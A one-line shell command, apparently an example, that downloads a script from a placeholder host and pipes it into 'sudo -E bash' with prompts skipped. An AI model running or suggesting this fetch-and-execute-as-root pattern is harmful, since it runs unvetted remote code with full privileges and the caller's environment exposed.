wget -qO- https://x.example | sudo -E bash -s -- --yes
